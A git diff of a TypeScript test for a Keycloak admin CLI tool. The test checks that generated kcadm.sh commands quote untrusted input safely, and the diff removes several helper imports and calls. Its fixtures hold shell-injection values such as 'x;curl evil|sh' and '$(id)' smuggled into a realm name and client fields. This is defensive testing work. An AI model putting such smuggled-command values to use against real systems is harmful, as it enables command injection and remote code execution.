@@ -2,13 +2,7 @@ import assert from 'node:assert/strict';
 import { readdirSync, readFileSync } from 'node:fs';
 import { test } from 'node:test';
 import { fileURLToPath } from 'node:url';
-import {
-  kcadm,
-  kcadmDelete,
-  kcadmRealm,
-  kcadmServer,
-  kcadmServiceRole,
-} from '../../packages/cli/src/doctor/check.ts';
+import { kcadm, kcadmRealm } from '../../packages/cli/src/doctor/check.ts';
 import { judgeStranger } from '../../packages/cli/src/keycloak/finding.ts';
 import { readProgram } from '../../packages/cli/src/source/read-program.ts';
 import { type SyntaxNode, walk } from '../../packages/cli/src/source/syntax.ts';
@@ -18,17 +12,7 @@ import { type SyntaxNode, walk } from '../../packages/cli/src/source/syntax.ts';
 const SOURCES = fileURLToPath(new URL('../../packages/cli/src', import.meta.url));
 const COMMAND = /kcadm\.sh|npx keycloak-guard|curl -i/;
 /** Words of a shell already: `$(kcadm.sh …)`, a uuid in a path, a setting that this program chose. */
-const READY = [
-  'path',
-  'setting',
-  'flags',
-  'account',
-  'role',
-  'realmWord',
-  'queryWord',
-  'clientWord',
-  'imports',
-];
+const READY = ['id', 'setting', 'flags', 'realmWord', 'queryWord', 'imports'];
 
 test('hold what others chose as words that run nothing', () => {
   const caller = { realm: 'x;curl evil|sh', clientId: "y'$(id)" };
@@ -37,10 +21,7 @@ test('hold what others chose as words that run nothing', () => {
   const answer = { url, status: 502, headers: new Headers(), text: '<p>', tookMs: 1, arrivedAt: 0 };
   const all = [
     kcadm(reach, `redirectUris+=http://x/'$(id)'`),
-    kcadmServer(reach, 'a=b'),
-    kcadmDelete(reach, 'policy/7'),
     kcadmRealm(caller.realm, 'enabled=true'),
-    kcadmServiceRole(reach, 'uma_protection'),
     judgeStranger(answer)?.fix ?? '',
   ];
   for (const one of all) {
